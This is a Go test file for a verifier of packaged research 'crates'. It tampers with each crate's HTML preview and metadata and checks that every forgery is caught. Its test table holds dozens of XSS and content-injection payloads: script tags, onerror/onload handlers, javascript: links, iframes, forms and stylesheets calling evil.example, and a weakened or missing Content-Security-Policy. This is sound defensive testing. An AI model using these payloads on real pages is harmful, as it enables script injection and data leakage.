package dossier_test

import (
	"maps"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"brenner/internal/crate"
	"brenner/internal/protocol"
)

var generatorLine = regexp.MustCompile(`brenner test`)

// anotherMaker names another program in the report and in the metadata: what switched the checks off once.
func anotherMaker(files map[string]string) {
	for _, name := range []string{crate.PreviewName, crate.MetadataName} {
		files[name] = generatorLine.ReplaceAllString(files[name], "brenner 9.9")
	}
}

func inPage(old, text string) func(map[string]string) { return replace(crate.PreviewName, old, text) }

// TestForgedByAnotherMaker: whoever says to have written a crate, its report is inert, the list of its files is closed,
// and its metadata say what the thread says (SCIENCE 9).
func TestForgedByAnotherMaker(t *testing.T) {
	files := unzip(t, pack(t, small(t).bundle()))
	honest := maps.Clone(files)
	anotherMaker(honest)
	if got := verify(t, rezip(t, forge(honest))); got.FirstBad != nil {
		t.Fatalf("only the maker was changed: %+v", got.FirstBad)
	}
	add := func(html string) func(map[string]string) { return inPage("</main>", html+"</main>") }
	const policy = `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:">`
	file := func(name string) func(map[string]string) { return func(f map[string]string) { f[name] = "more" } }
	for name, change := range map[string]func(map[string]string){
		"a script":              add(`<script>alert(1)</script>`),
		"a script in capitals":  add(`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`),
		"a script in the head":  inPage("<title>", "<script>1</script><title>"),
		"a handler":             inPage("<main>", `<main onclick="alert(1)">`),
		"onload":                inPage("<body>", `<body OnLoad=alert(1)>`),
		"a handler of an image": add(`<img src="data:image/png;base64,AA" onerror="alert(1)">`),
		"an image from outside": add(`<img src="https://evil.example/x.png">`),
		"an image set":          add(`<img srcset="https://evil.example/x.png 2x">`),
		"javascript:":           add(`<a href="javascript:alert(1)">more</a>`),
		"javascript: in blanks": add("<a href=\" java\tscript:alert(1)\">more</a>"),
		"data:":                 add(`<a href="data:text/html,<script>1</script>">more</a>`),
		"a file":                add(`<a href="notes.html">more</a>`),
		"refresh":               inPage("<title>", `<meta http-equiv="refresh" content="0; url=https://evil.example/"><title>`),
		"a frame":               add(`<iframe src="https://evil.example/"></iframe>`),
		"a frame with text":     add(`<iframe srcdoc="<script>1</script>"></iframe>`),
		"an object":             add(`<object data="x.swf"></object>`),
		"embed":                 add(`<embed src="x.swf">`),
		"a form":                add(`<form action="https://evil.example/"><input name="q"></form>`),
		"a button":              add(`<button formaction="https://evil.example/">go</button>`),
		"base":                  inPage("<title>", `<base href="https://evil.example/"><title>`),
		"a stylesheet":          inPage("<title>", `<link rel="stylesheet" href="https://evil.example/x.css"><title>`),
		"an import":             inPage("<style>", `<style>@import "https://evil.example/x.css";`),
		"a style that loads":    inPage("<style>", `<style>body{background:url(https://evil.example/x.png)}`),
		"a style in disguise":   inPage("<style>", `<style>body{background:\75rl(https://evil.example/x.png)}`),
		"an attribute's style":  add(`<p style="background:url(https://evil.example/x.png)">x</p>`),
		"svg onload":            add(`<svg onload="alert(1)"></svg>`),
		"svg script":            add(`<svg><script>alert(1)</script></svg>`),
		"svg style":             add(`<svg><style><img src=x onerror=alert(1)></style></svg>`),
		"svg foreignObject":     add(`<svg><foreignObject><p>x</p></foreignObject></svg>`),
		"svg use":               add(`<svg><use href="https://evil.example/x.svg#a"></use></svg>`),
		"svg image":             add(`<svg><image xlink:href="https://evil.example/x.png"></image></svg>`),
		"svg link":              add(`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`),
		"svg animation":         add(`<svg><animate attributeName="href" values="javascript:alert(1)"></animate></svg>`),
		"math":                  add(`<math href="javascript:alert(1)"><mi>x</mi></math>`),
		"a video":               add(`<video poster="https://evil.example/x.png"></video>`),
		"a template":            add(`<template><script>1</script></template>`),
		"noscript":              add(`<noscript><img src="https://evil.example/x.png"></noscript>`),
		"no policy":             inPage(policy, ""),
		"a weaker policy":       inPage("default-src 'none'", "default-src *"),
		"a longer policy":       inPage("img-src data:", "img-src data:; script-src 'unsafe-inline'"),
		"a policy in a comment": inPage(policy, "<!--"+policy+"-->"),
		"a policy in the body":  func(f map[string]string) { inPage(policy, "")(f); inPage("<main>", policy+"<main>")(f) },
		"a policy too late":     func(f map[string]string) { inPage(policy, "")(f); inPage("</head>", policy+"</head>")(f) },
		"a second policy":       inPage("<title>", `<meta http-equiv="Content-Security-Policy" content="default-src *"><title>`),
		"an added page":         file("notes.md"),
		"an added source":       file("evidence/EV-002.txt"),
		"a file in other case":  file("Artifact.md"),
		"a source in capitals":  file("evidence/ev-001.txt"),
		"a folder in capitals":  file("EVIDENCE/EV-001.txt"),
		"another title":         replace(crate.MetadataName, "Why do cells", "How do cells"),
		"another model":         replace(crate.MetadataName, `"softwareVersion": "`, `"softwareVersion": "x`),
		"another family":        replace(crate.MetadataName, `"name": "google"`, `"name": "openai"`),
		"another day":           replace(crate.MetadataName, `"datePublished": "2`, `"datePublished": "1`),
		"a key more":            replace(crate.MetadataName, `"@type": "Dataset"`, `"@type": "Dataset", "funder": "me"`),
		"another tool":          replace(crate.MetadataName, "brenner 9.9", "brenner 8.8"),
		"a view":                replace("review.json", `"state":"contested"`, `"state":"reviewed"`),
		"a reference":           replace("bibliography.bib", "Notes on", "Lies on"),
		"a comment in YAML":     replace("evidence/index.yaml", "evidence:", "# All of it was looked at.\nevidence:"),
		"a comment":             replace("bibliography.bib", "@", "more, that no program reads\n@"),
		"a field of one's own":  replace("bibliography.bib", "title =", "abstract = {more},\n  title ="),
	} {
		t.Run(name, func(t *testing.T) {
			changed := maps.Clone(honest)
			if change(changed); maps.Equal(changed, honest) {
				t.Fatal("nothing was changed")
			}
			if named := strings.HasPrefix(name, "an added") || strings.Contains(name, "case") || strings.Contains(name, "capitals"); named {
				listed(changed)
			}
			page := changed[crate.PreviewName] != honest[crate.PreviewName]
			got := verify(t, rezip(t, forge(changed)))
			if got.FirstBad == nil {
				t.Fatal("it was not found")
			}
			if page && (got.FirstBad.File != crate.PreviewName || !strings.Contains(got.FirstBad.Reason, "inert")) {
				t.Errorf("%s was blamed: %s", got.FirstBad.File, got.FirstBad.Reason)
			}
		})
	}
}

// listed lets the metadata name every file.
func listed(files map[string]string) {
	for _, name := range slices.Sorted(maps.Keys(files)) {
		if strings.Contains(files[crate.MetadataName], `"`+name+`"`) || strings.HasPrefix(name, "ro-crate") ||
			strings.HasPrefix(name, "manifest") {
			continue
		}
		for old, text := range map[string]string{
			`"hasPart": [`: `"hasPart": [{"@id": "` + name + `"},`,
			`"@graph": [`: `"@graph": [{"@id": "` + name +
				`", "@type": "File", "name": "x", "contentSize": "0", "encodingFormat": "text/plain", "sha256": "0"},`,
		} {
			files[crate.MetadataName] = strings.Replace(files[crate.MetadataName], old, text, 1)
		}
	}
}

// TestPreviousRelease: a crate of the release before still verifies, with its summary from the thread.
func TestPreviousRelease(t *testing.T) {
	data, err := os.ReadFile("testdata/previous.zip")
	if err != nil {
		t.Fatal(err)
	}
	got := verify(t, data)
	if got.FirstBad != nil || got.Versions != 2 {
		t.Fatalf("%+v", got.FirstBad)
	}
	i := slices.IndexFunc(got.Findings, func(f protocol.Finding) bool { return f.Code == protocol.ReportNotRebuilt })
	if i < 0 || got.Findings[i].Severity != protocol.SeverityWarning {
		t.Errorf("findings %+v", got.Findings)
	}
	if f, told := viewsNotRebuilt(got); !told || f.Severity != protocol.SeverityWarning ||
		!strings.Contains(f.Message, "results.json (it has none)") {
		t.Errorf("views of the first edition: %q", f.Message)
	}
	if len(got.Summary) != 3 || !strings.Contains(got.Summary[1], "predictions revealed") || !strings.Contains(got.Summary[2], "none") {
		t.Errorf("summary %q", got.Summary)
	}
}
